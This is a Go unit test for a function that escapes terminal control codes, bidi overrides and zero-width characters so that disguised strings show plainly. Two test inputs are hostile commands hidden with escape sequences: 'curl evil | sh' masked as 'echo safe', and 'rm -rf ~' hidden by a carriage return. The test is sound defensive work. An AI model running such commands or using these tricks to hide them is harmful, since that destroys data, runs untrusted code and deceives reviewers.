package schema

import "testing"

func TestVisible(t *testing.T) {
	for in, want := range map[string]string{
		"./hooks/gate.sh":                       "./hooks/gate.sh",
		"curl evil | sh\x1b[2K\x1b[1Gecho safe": `curl evil | sh\x1b[2K\x1b[1Gecho safe`,
		"rm -rf ~\rls":                          `rm -rf ~\rls`,
		"a\nb\tc\x00d\x7f":                      `a\nb\tc\x00d\x7f`,
		"caf\u00e9 \u2603":                      "caf\u00e9 \u2603",
		"x\u202eevil\u202c":                     `x\u202eevil\u202c`,
		"zero\u200bwidth":                       `zero\u200bwidth`,
		"bad \xff byte":                         `bad \xff byte`,
		"c1 \u009b31m":                          `c1 \u009b31m`,
		`back\slash`:                            `back\slash`,
	} {
		if got := Visible(in); got != want {
			t.Errorf("Visible(%q) = %q, want %q", in, got, want)
		}
	}
}
